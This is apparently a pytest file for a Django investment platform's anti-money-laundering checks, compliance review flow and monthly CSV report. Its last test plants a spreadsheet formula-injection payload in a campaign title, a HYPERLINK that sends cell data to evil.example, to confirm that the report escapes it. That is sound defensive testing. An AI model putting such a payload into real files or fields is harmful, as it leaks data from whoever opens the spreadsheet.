"""Each AML rule trips, and just misses; held investments are released or rejected by compliance."""

from __future__ import annotations

from decimal import Decimal

import pytest

from blockchain.models import ChainTransaction
from campaigns.models import AMLAlert, CountryRestriction, Investment, InvestmentStatus, SanctionedWallet
from issuers.models import ComplianceReview
from tests.investments.conftest import client_of
from tests.support.outbox import settle_outbox

pytestmark = [pytest.mark.chain, pytest.mark.django_db]


@pytest.fixture
def setup(open_campaign, make_investor, settings):
    settings.AML_LARGE_AMOUNT = Decimal("10000")
    settings.AML_VELOCITY_MAX_COUNT = 3
    settings.AML_VELOCITY_MAX_TOTAL = Decimal("1000000")  # each test of the total lowers it
    settings.AML_STRUCTURING_COUNT = 3
    settings.AML_STRUCTURING_BAND = Decimal("0.10")
    campaign = open_campaign(hard_cap="1000000")
    user, client, wallet = make_investor(annual_income="5000000", net_worth="5000000")  # limit 124,000
    return campaign, user, client, wallet


def invest(client, campaign, amount) -> dict:
    response = client.post(
        f"/api/campaigns/{campaign.pk}/investments/", {"amount": str(amount)}, format="json"
    )
    assert response.status_code == 202, response.json()
    return response.json()


def rules(body: dict) -> set[str]:
    """The rules the investment tripped (staff-only: the investor's answer carries no flags)."""
    assert "aml" not in body
    return set(AMLAlert.objects.filter(investment_id=body["id"]).values_list("rule", flat=True))


def test_large_amount(setup):
    campaign, _user, client, _wallet = setup
    assert rules(invest(client, campaign, "9999.99")) == set()
    held = invest(client, campaign, "10000")
    assert held["status"] == "held_for_review" and rules(held) == {"large_amount"}


def test_velocity_by_count(setup):
    campaign, _user, client, _wallet = setup
    for _ in range(3):
        assert invest(client, campaign, 10)["status"] == "recording"  # the 3rd just misses
    fourth = invest(client, campaign, 10)
    assert fourth["status"] == "held_for_review" and rules(fourth) == {"velocity_count"}


def test_velocity_by_total(setup, settings):
    campaign, _user, client, _wallet = setup
    settings.AML_VELOCITY_MAX_TOTAL = Decimal("15000")
    settings.AML_VELOCITY_MAX_COUNT = 10
    assert rules(invest(client, campaign, 7000)) == set()
    assert rules(invest(client, campaign, 7990)) == set()  # 14,990 in 24 h
    assert rules(invest(client, campaign, 10)) == set()  # 15,000: just at the limit
    over = invest(client, campaign, 10)
    assert over["status"] == "held_for_review" and rules(over) == {"velocity_total"}


def test_structuring(setup, settings):
    campaign, _user, client, _wallet = setup
    settings.AML_VELOCITY_MAX_COUNT = 10
    assert rules(invest(client, campaign, "8999.99")) == set()  # below the band: not counted
    assert rules(invest(client, campaign, 9000)) == set()  # 1st in the band
    assert rules(invest(client, campaign, 9500)) == set()  # 2nd
    third = invest(client, campaign, 9999)
    assert third["status"] == "held_for_review" and rules(third) == {"structuring"}


def test_restricted_country(setup, make_investor):
    campaign, _user, client, _wallet = setup
    CountryRestriction.objects.create(campaign=campaign, country="FR")
    assert rules(invest(client, campaign, 10)) == set()  # the investor is in DE
    _fr_user, french, _ = make_investor(country="FR")
    held = invest(french, campaign, 10)
    assert held["status"] == "held_for_review" and rules(held) == {"restricted_country"}
    CountryRestriction.objects.create(campaign=None, country="DE")  # platform-wide
    assert rules(invest(client, campaign, 10)) == {"restricted_country"}


def test_sanctioned_wallet_is_rejected_and_never_reaches_the_outbox(setup, make_investor):
    campaign, _user, client, _wallet = setup
    _other, other_client, other_wallet = make_investor()
    SanctionedWallet.objects.create(address=other_wallet.address, source="OFAC SDN")
    assert rules(invest(client, campaign, 10)) == set()
    before = ChainTransaction.objects.count()
    rejected = invest(other_client, campaign, 10)
    assert rejected["status"] == "rejected" and rules(rejected) == {"sanctioned_wallet"}
    assert rejected["rejection_reason"] == "other"  # the generic reason: nothing says "sanctions"
    assert ChainTransaction.objects.count() == before
    assert not ChainTransaction.objects.filter(investment__pk=rejected["id"]).exists()


def test_held_then_released_then_confirmed(setup, officer):
    campaign, _user, client, _wallet = setup
    held = invest(client, campaign, 12000)
    assert not ChainTransaction.objects.filter(investment__pk=held["id"]).exists()  # nothing sent while held
    reviewer = client_of(officer)
    queue = reviewer.get("/api/investments/?status=held_for_review").json()
    assert [i["id"] for i in queue["results"]] == [held["id"]]
    released = reviewer.post(f"/api/investments/{held['id']}/review/", {"decision": "release"}, format="json")
    assert released.status_code == 202 and released.json()["status"] == "recording"
    settle_outbox()
    assert Investment.objects.get(pk=held["id"]).status == InvestmentStatus.CONFIRMED
    review = ComplianceReview.objects.get(object_id=held["id"], decision="release")
    assert review.officer == officer and review.to_status == "recording"


def test_held_then_rejected(setup, officer):
    campaign, _user, client, _wallet = setup
    held = invest(client, campaign, 12000)
    reviewer = client_of(officer)
    no_reason = reviewer.post(f"/api/investments/{held['id']}/review/", {"decision": "reject"}, format="json")
    assert no_reason.status_code == 400
    rejected = reviewer.post(
        f"/api/investments/{held['id']}/review/",
        {"decision": "reject", "reason": "documents_required", "notes": "source of funds unclear"},
        format="json",
    )
    assert rejected.status_code == 200 and rejected.json()["status"] == "rejected"
    assert rejected.json()["rejection_reason"] == "documents_required"
    assert rejected.json()["rejection_notes"] == "source of funds unclear"  # compliance's answer
    assert not ChainTransaction.objects.filter(investment__pk=held["id"]).exists()
    again = reviewer.post(f"/api/investments/{held['id']}/review/", {"decision": "release"}, format="json")
    assert again.status_code == 409
    assert (
        client.post(
            f"/api/investments/{held['id']}/review/", {"decision": "release"}, format="json"
        ).status_code
        == 403
    )
    assert AMLAlert.objects.filter(investment_id=held["id"], rule="large_amount").exists()


def test_monthly_compliance_report(setup, officer, tmp_path):
    import csv
    import io

    from django.core.management import call_command
    from django.core.management.base import CommandError
    from django.utils import timezone

    campaign, _user, client, wallet = setup
    clear = invest(client, campaign, 10)
    held = invest(client, campaign, 12000)
    client_of(officer).post(
        f"/api/investments/{held['id']}/review/",
        {"decision": "reject", "reason": "other", "notes": "unclear funds"},
        format="json",
    )
    settle_outbox()
    target = tmp_path / "compliance.csv"
    err = io.StringIO()
    call_command(
        "compliance_report", "--month", timezone.now().strftime("%Y-%m"), "--output", str(target), stderr=err
    )
    rows = {int(r["investment_id"]): r for r in csv.DictReader(target.open())}
    assert rows[clear["id"]]["status"] == "confirmed" and rows[clear["id"]]["record_tx"].startswith("0x")
    assert rows[held["id"]]["aml_alerts"] == "large_amount:60"
    assert (
        rows[held["id"]]["decisions"].startswith(f"reject by {officer.username}")
        and "unclear funds" in rows[held["id"]]["decisions"]
    )
    assert rows[held["id"]]["wallet"] == wallet.address
    assert rows[held["id"]]["rejection_reason"] == "other"
    assert rows[held["id"]]["rejection_notes"] == "unclear funds"
    assert "2 investments, 1 with AML alerts, 1 with compliance decisions" in err.getvalue()
    with pytest.raises(CommandError):
        call_command("compliance_report", "--month", "2026-00")


def test_the_compliance_report_neutralises_spreadsheet_formulas(setup, officer, tmp_path):
    """An issuer-chosen campaign title (and any other text) cannot become a live formula in the
    officers' CSV: a cell starting with = + - @ or a control character is written with a leading '."""
    import csv

    from django.core.management import call_command
    from django.utils import timezone

    from campaigns.models import Campaign

    campaign, user, client, _wallet = setup
    title = '=HYPERLINK("https://evil.example/?d="&E2&F2,"Open")'
    Campaign.objects.filter(pk=campaign.pk).update(title=title)
    type(user).objects.filter(pk=user.pk).update(username="@SUM(1+1)")
    invested = invest(client, campaign, 10)
    target = tmp_path / "compliance.csv"
    call_command(
        "compliance_report", "--month", timezone.now().strftime("%Y-%m"), "--output", str(target), stderr=None
    )
    row = next(r for r in csv.DictReader(target.open()) if int(r["investment_id"]) == invested["id"])
    assert row["campaign"] == "'" + title
    assert row["investor"] == "'@SUM(1+1)"
    assert not row["amount"].startswith("'")  # numbers are left alone
